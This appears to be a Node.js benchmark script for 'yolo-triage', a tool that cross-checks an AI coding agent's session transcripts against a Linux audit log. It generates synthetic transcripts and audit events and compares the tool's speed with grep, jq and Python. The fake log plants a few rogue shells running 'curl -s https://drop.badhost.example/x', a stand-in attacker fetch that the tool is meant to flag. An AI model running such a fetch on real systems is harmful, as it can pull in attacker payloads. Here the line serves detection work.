// Joins a generated audit log with a transcript of many calls, and reads the same log with grep, jq and Python beside it.
// npm run bench:witness [-- --megabytes 1000 --calls 20000 --json]
import { execFileSync, spawnSync } from 'node:child_process';
import {
  closeSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  rmSync,
  statSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';

const { values } = parseArgs({
  options: {
    megabytes: { type: 'string', default: '1000' },
    calls: { type: 'string', default: '20000' },
    json: { type: 'boolean', default: false },
  },
});
const bytesAtLeast = Number(values.megabytes) * 1_000_000;
const calls = Number(values.calls);
const program = fileURLToPath(new URL('../../dist/main.js', import.meta.url));
const folder = mkdtempSync(join(tmpdir(), 'yolo-triage-bench-'));
const start = Date.parse('2026-11-13T08:00:00Z') / 1000;
const secondsACall = 4;
const sessionId = '00000000-0000-4000-8000-0000000000be';
const commands = [
  'npm test',
  'git status --short',
  'ls -la src',
  'node build.mjs',
  'git diff HEAD~1',
  'cat README.md',
];
const pythonCount = `import re, sys
head = re.compile(r'audit\\(([0-9.]+):[0-9]+\\): argc=[0-9]+ a0=(\\S+)')
print(sum(1 for line in open(sys.argv[1]) if line.startswith('type=EXECVE') and head.search(line)))`;
const commandOf = (index) => `${commands[index % commands.length]} # ${index}`;

try {
  const home = writeHome();
  const log = writeLog();
  const size = statSync(log).size;
  const runs = [
    [
      'yolo-triage',
      process.execPath,
      [
        program,
        'report',
        '--home',
        home,
        '--root',
        folder,
        '--format',
        'json',
        '--output',
        join(folder, 'case.json'),
      ],
    ],
    [
      'yolo-triage with the log',
      process.execPath,
      [
        program,
        'report',
        '--home',
        home,
        '--root',
        folder,
        '--process-log',
        log,
        '--format',
        'json',
        '--output',
        join(folder, 'with.json'),
      ],
    ],
    ['grep: lines of shells of the agent', 'grep', ['-c', hex('/home/dana/.claude/shell-snapshots/'), log]],
    [
      'jq: program and time of every event',
      'jq',
      [
        '-Rrn',
        '[inputs | select(startswith("type=EXECVE")) | capture("audit\\\\((?<t>[0-9.]+):[0-9]+\\\\): argc=[0-9]+ a0=(?<p>\\\\S+)")] | length',
        log,
      ],
    ],
    ['Python: program and time of every event', 'python3', ['-c', pythonCount, log]],
  ].map(measured);
  const found = JSON.parse(
    execFileSync('cat', [join(folder, 'with.json')], { encoding: 'utf8', maxBuffer: 1 << 30 }),
  );
  const result = {
    megabytes: Math.round(size / 1e6),
    calls,
    seen: found.witnesses[0].agreeingCalls,
    unrecorded: found.findings.filter(({ queryId }) => queryId === 'process_without_transcript').length,
    absent: found.findings
      .filter(({ queryId }) => queryId === 'transcript_without_process')
      .map(({ count }) => count),
    runs,
  };
  process.stdout.write(values.json ? `${JSON.stringify(result)}\n` : table(result));
} finally {
  rmSync(folder, { recursive: true, force: true });
}

function hex(text) {
  return Buffer.from(text).toString('hex').toUpperCase();
}

function writeHome() {
  const home = join(folder, 'home/dana');
  const project = join(home, '.claude/projects/-home-dana-shop');
  mkdirSync(project, { recursive: true });
  writeFileSync(join(home, '.claude.json'), '{}');
  const file = openSync(join(project, `${sessionId}.jsonl`), 'w');
  const common = { sessionId, cwd: '/home/dana/shop', version: '2.1.240' };
  for (let index = 0; index < calls; index += 1) {
    const id = `toolu_${index}`;
    const at = (more) => new Date((start + index * secondsACall + more) * 1000).toISOString();
    const use = { type: 'tool_use', id, name: 'Bash', input: { command: commandOf(index) } };
    const result = { type: 'tool_result', tool_use_id: id, content: 'ok' };
    writeSync(
      file,
      `${JSON.stringify({ ...common, type: 'assistant', timestamp: at(0), message: { role: 'assistant', content: [use] } })}\n`,
    );
    writeSync(
      file,
      `${JSON.stringify({ ...common, type: 'user', timestamp: at(2), message: { role: 'user', content: [result] } })}\n`,
    );
  }
  closeSync(file);
  return home;
}

/** Every call has its shell and its program, but ten; three shells are no call's; the rest is the machine's own noise. */
function writeLog() {
  const path = join(folder, 'audit.log');
  const file = openSync(path, 'w');
  const eventBytes = 850;
  const noise = Math.max(1, Math.ceil(bytesAtLeast / eventBytes / calls) - 2);
  let serial = 0;
  let text = '';
  const put = (seconds, pid, parent, argv) => {
    serial += 1;
    const head = `msg=audit(${seconds.toFixed(3)}:${serial}):`;
    text += `type=SYSCALL ${head} arch=c000003e syscall=59 success=yes exit=0 a0=55d0c81b2a30 a1=55d0c81b2f10 a2=55d0c81b1d20 a3=8 items=2 ppid=${parent} pid=${pid} auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts1 ses=3 comm="${argv[0].slice(0, 15)}" exe="/usr/bin/${argv[0]}" key="exec"\n`;
    text += `type=EXECVE ${head} argc=${argv.length} ${argv.map((word, index) => `a${index}=${hex(word)}`).join(' ')}\n`;
    text += `type=CWD ${head} cwd="/home/dana/shop"\n`;
    text += `type=PATH ${head} item=0 name="/usr/bin/${argv[0]}" inode=131 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL\n`;
    text += `type=PROCTITLE ${head} proctitle=${hex(argv.join('\0'))}\n`;
  };
  const shell = (seconds, pid, command) => {
    const words = `source /home/dana/.claude/shell-snapshots/snapshot-bash-1.sh && eval '${command}' \\< /dev/null && pwd -P >| /tmp/claude-1-cwd`;
    put(seconds, pid, 100, ['bash', '-c', '-l', words]);
    put(seconds + 0.05, pid + 1, pid, command.split(' ').slice(0, 3));
  };
  for (let index = 0; index < calls; index += 1) {
    const seconds = start + index * secondsACall + 0.2;
    const pid = 1000 + ((index * 40) % 4_000_000);
    if (index % Math.floor(calls / 10) !== 7) shell(seconds, pid, commandOf(index));
    if (index % Math.floor(calls / 3) === 5)
      shell(seconds + 2.5, pid + 4, 'curl -s https://drop.badhost.example/x');
    for (let other = 0; other < noise; other += 1)
      put(seconds + (other * 3) / noise, pid + 10 + (other % 25), 50, ['make', `target-${other}`, '--quiet']);
    if (text.length > 4_000_000) {
      writeSync(file, text);
      text = '';
    }
  }
  writeSync(file, text);
  closeSync(file);
  return path;
}

function measured([name, command, argv]) {
  const run = spawnSync('/usr/bin/time', ['-f', '%e %U %S %M', command, ...argv], {
    encoding: 'utf8',
    maxBuffer: 1 << 30,
  });
  if (run.error || run.status === 127) return { name, missing: run.error?.message ?? 'is not installed' };
  const [seconds, user, system, kilobytes] = run.stderr.trim().split('\n').at(-1).split(' ').map(Number);
  const processorSeconds = Number((user + system).toFixed(1));
  return { name, seconds, processorSeconds, megabytes: Math.round(kilobytes / 1000) };
}

function table({ megabytes, calls: count, seen, unrecorded, absent, runs }) {
  const rows = runs.map((run) => `  ${run.name.padEnd(40)} ${run.missing ?? figures(run, runs[1])}`);
  return `${megabytes} MB of audit log, ${count} calls: ${seen} seen, ${unrecorded} shells without a call, calls without a process ${absent.join('+')}\n${rows.join('\n')}\n`;
}

/** @param joining the run that joins, of whose processor seconds the ratio is */
function figures({ seconds, processorSeconds, megabytes }, joining) {
  const ratio = (joining.processorSeconds / Math.max(processorSeconds, 0.1)).toFixed(1);
  return `${seconds} s, ${processorSeconds} s of the processor, ${megabytes} MB (joining takes ${ratio} times as much)`;
}
